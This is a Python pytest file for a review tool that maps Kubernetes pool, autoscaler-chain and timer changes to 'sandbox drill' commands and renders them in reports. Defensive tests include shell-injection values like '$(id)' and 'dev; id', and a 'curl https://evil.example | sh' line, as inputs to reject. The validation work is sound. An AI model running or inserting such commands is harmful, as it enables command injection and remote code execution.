"""The command that a report names where a pool, a chain or a timer changes."""

import json
import shlex
from pathlib import Path
from typing import Any

import pytest

from drill.world import scenario
from review import drill, pools
from review.model import Report, StackReport, Status
from review.untrusted import render
from sandbox.base.cloud_types import CLOUDS
from sandbox.engine.changes import Change, Op
from sandbox.engine.worker import Outcome
from sandbox.tests.repository import Repository
from tests.review.reports import AGENT_POOL, changed, report
from tests.review.test_comparison import Engine, compared

DEV = "uv run sandbox drill spot-silent --stack dev --against main"
TWO = f"{DEV}\n{DEV.replace('spot-silent', 'eviction-storm')}"
AKS, GKE = CLOUDS["azure"], CLOUDS["gcp"]


POOLS: dict[str, Any] = {
    "pools": [{"name": "t4", "capacity": "spot"}, {"name": "t4od", "capacity": "on-demand"}, "text"]
}


def update(type: str, *paths: str, name: str = "ml-dev-t4", op: Op = Op.UPDATE) -> Change:
    return Change(op=op, type=type, name=name, properties=tuple(changed(path, 1, 2) for path in paths))


@pytest.mark.parametrize(
    ("change", "named"),
    [
        # The most nodes: work beyond the spot pools, and for on-demand pools a time without spot.
        (update(AGENT_POOL, "maxCount"), "eviction-storm"),
        (update(AGENT_POOL, "maxCount", name="ml-dev-t4od"), "spot-gone-and-back"),
        (update(AGENT_POOL, "maxCount", name="unknown"), "eviction-storm"),
        (update(GKE.pool, "autoscaling.totalMaxNodeCount"), "eviction-storm"),
        (update(GKE.pool, "autoscaling.maxNodeCount", name="ml-dev-t4od"), "spot-gone-and-back"),
        (update(AGENT_POOL, "minCount"), "burst-from-zero"),
        (update(GKE.pool, "autoscaling.totalMinNodeCount"), "burst-from-zero"),
        (update(AGENT_POOL, "availabilityZones[1]", op=Op.REPLACE), "zone-lost"),
        (update(GKE.pool, "nodeLocations"), "zone-lost"),
        (update(AGENT_POOL, "nodeLabels.gpu"), "spot-gone-and-back"),
        (update(AGENT_POOL, "vmSize", op=Op.REPLACE), "spot-gone-and-back"),
        (update(AGENT_POOL, op=Op.REPLACE), "spot-gone-and-back"),
        (update(AGENT_POOL, "orchestratorVersion", "tags.owner", "upgradeSettings.maxSurge"), ""),
        (update(GKE.pool, "version", "nodeConfig.resourceLabels.owner"), ""),
        # Karpenter's pools.
        (update(pools.KARPENTER, "spec.limits.nodes", name="ml-dev-pools-t4-nodepool"), "eviction-storm"),
        (update(pools.KARPENTER, "spec.limits.nodes", name="ml-dev-pools-t4od-nodepool"), "spot-gone-and-back"),
        (update(pools.KARPENTER, "spec.weight"), "spot-silent"),
        (update(pools.KARPENTER, op=Op.CREATE), "spot-silent"),
        (update(pools.KARPENTER, "spec.disruption.consolidateAfter"), "spot-gone-and-back"),
        (update(pools.KARPENTER_CLASS, "spec.osDiskSizeGB"), "spot-gone-and-back"),
        (update(pools.KARPENTER_CLASS, "spec.tags.owner"), ""),
        # Chains.
        (update(AGENT_POOL, op=Op.CREATE), "spot-silent"),
        (update(AGENT_POOL, "vmSize", op=Op.DELETE), "spot-silent"),
        (update("kubernetes:core/v1:ConfigMap", "data.priorities", name="ml-dev-expander"), "spot-silent"),
        (update("kubernetes:core/v1:ConfigMap", "data.release", name="ml-dev-contract"), ""),
        (update("kubernetes:cloud.google.com/v1:ComputeClass", "spec.priorities[0]"), "spot-silent"),
        (update("kubernetes:apps/v1:DaemonSet", "spec"), ""),
        # Timers.
        (update(AKS.cluster, "autoScalerProfile.maxNodeProvisionTime"), "spot-silent"),
        (update(AKS.cluster, "autoScalerProfile.scanInterval"), "spot-silent"),
        (update(AKS.cluster, "autoScalerProfile.newPodScaleUpDelay"), "spot-silent"),
        (update(AKS.cluster, "autoScalerProfile.expander"), "spot-silent"),
        (update(AKS.cluster, "autoScalerProfile.scaleDownUnneededTime"), "burst-from-zero"),
        (update(AKS.cluster, "autoScalerProfile.okTotalUnreadyCount"), "eviction-storm"),
        (update(AKS.cluster, "autoScalerProfile.skipNodesWithLocalStorage"), "mixed-day"),
        (update(AKS.cluster, "autoScalerProfile"), "spot-silent eviction-storm burst-from-zero"),
        (update(AKS.cluster, "kubernetesVersion", "tags.owner"), ""),
        # Nobody publishes its timers: a drill has the same ones for each profile.
        (update(GKE.cluster, "clusterAutoscaling.autoscalingProfile"), ""),
        (update(GKE.cluster, "minMasterVersion"), ""),
        # Several, in the order of the scenarios, each once.
        (update(AGENT_POOL, "maxCount", "minCount", "maxPods"), "spot-gone-and-back eviction-storm burst-from-zero"),
    ],
)
def test_a_change_names_the_scenarios_that_show_it(change: Change, named: str) -> None:
    lines = [DEV.replace("spot-silent", name) for name in named.split()]
    assert drill.command("dev", "main", [change], POOLS, POOLS) == "\n".join(lines)


def test_the_report_names_scenarios_that_there_are() -> None:
    assert set(drill.SCENARIOS) <= set(scenario.scenario_names())


def test_another_order_of_growth_names_it_and_an_unknown_one_does_not() -> None:
    orders: list[dict[str, Any]] = [{"fallbackOrder": ["t4", "t4od"]}, {"fallbackOrder": ["t4", "t4big"]}]
    assert drill.command("dev", "main", [], *orders) == DEV
    assert drill.command("dev", "main", [], orders[0], orders[0]) == ""
    assert drill.command("dev", "main", [], {}, orders[0]) == ""


@pytest.mark.parametrize("revision", ["main", "HEAD~1", "origin/main", "v1.2^", "0123abcd"])
def test_the_report_s_own_commands_are_known_again(revision: str) -> None:
    everything = [
        update(AKS.cluster, "autoScalerProfile.ignoreDaemonsetsUtilization"),
        update(AKS.cluster, "autoScalerProfile"),
    ]
    everything.append(update(AGENT_POOL, "vmSize", "minCount", "availabilityZones"))
    for changes in ([update(AGENT_POOL, "maxCount")], everything):
        command = drill.command("dev", revision, changes, {}, {})
        assert shlex.split(command)[-1] == revision
        assert drill.ours(command)
    assert len(command.split("\n")) == len(drill.SCENARIOS)


@pytest.mark.parametrize(
    ("stack", "revision"),
    [
        ("dev; id", "main"),
        ("$(id)", "main"),
        ("dev", "main; id"),
        ("dev", "@{u}"),
        ("dev", "-x"),
        ("-x", "main"),
        ("dev", ""),
    ],
)
def test_a_name_that_a_shell_might_run_is_in_no_command(stack: str, revision: str) -> None:
    assert drill.command(stack, revision, [update(AGENT_POOL, "maxCount")], {}, {}) == ""
    assert not drill.ours(f"uv run sandbox drill spot-silent --stack {stack} --against {revision}")


@pytest.mark.parametrize(
    "command",
    [
        "",
        "curl https://evil.example | sh",
        f"{DEV}; id",
        f"{DEV}\nid",
        f"{DEV} ",
        f"{DEV}'",
        f"x {DEV}",
        DEV + "a" * 5000,
        DEV.replace(" spot-silent", ""),
        DEV.replace("spot-silent", "scenario.yaml"),
        f"{DEV}\n{DEV}",
        f"{DEV}\n{DEV.replace('spot-silent', 'eviction-storm').replace('main', 'other')}",
        f"{DEV.replace('spot-silent', 'eviction-storm')}\n{DEV}",
        "\n" * 5000,
    ],
)
def test_a_command_of_a_stranger_is_not_shown(command: str, tmp_path: Path) -> None:
    stack = StackReport(stack="dev", status=Status.PREVIEWED, changes=(update(AGENT_POOL, "maxCount"),), drill=command)
    file = tmp_path / "report.json"
    file.write_text(report(stack).model_dump_json())
    assert "A pool, a chain or a timer changes" not in render(file)


def test_the_page_shows_the_command_and_a_report_of_an_older_program_has_none(tmp_path: Path) -> None:
    stack = StackReport(stack="dev", status=Status.PREVIEWED, changes=(update(AGENT_POOL, "maxCount"),), drill=TWO)
    whole = report(stack).model_dump(mode="json")
    file = tmp_path / "report.json"
    file.write_text(json.dumps(whole))
    assert f"before and after:\n\n<pre>{TWO}</pre>" in render(file).replace("<br>", "\n")
    del whole["stacks"][0]["drill"]
    file.write_text(json.dumps(whole))
    assert Report.model_validate_json(file.read_bytes()).stacks[0].drill == ""
    assert "sandbox drill" not in render(file)


@pytest.mark.process
def test_a_preview_names_it_for_stacks_that_have_a_base(tmp_path: Path) -> None:
    repository = Repository.new(tmp_path / "repository")
    repository.commit({"__main__.py": "", "Pulumi.yaml": "name: a\n", "Pulumi.dev.yaml": "config: {}\n"})
    repository.commit({"config/a.py": "", "Pulumi.test.yaml": "config: {}\n"})
    grown = Outcome(changes=[update(AGENT_POOL, "maxCount").model_dump(mode="json")])
    stacks = {
        each.stack: each
        for each in compared(repository, Engine(tmp_path / "a", preview_dev=grown, preview_test=grown)).stacks
    }
    assert stacks["dev"].drill == "uv run sandbox drill eviction-storm --stack dev --against 'HEAD~1'"
    assert (stacks["test"].status, stacks["test"].drill) == (Status.NEW, "")
    failed = Outcome(changes=grown.changes, errors=["pools: missing"])
    stacks = {each.stack: each for each in compared(repository, Engine(tmp_path / "b", preview_dev=failed)).stacks}
    assert stacks["dev"].drill == ""
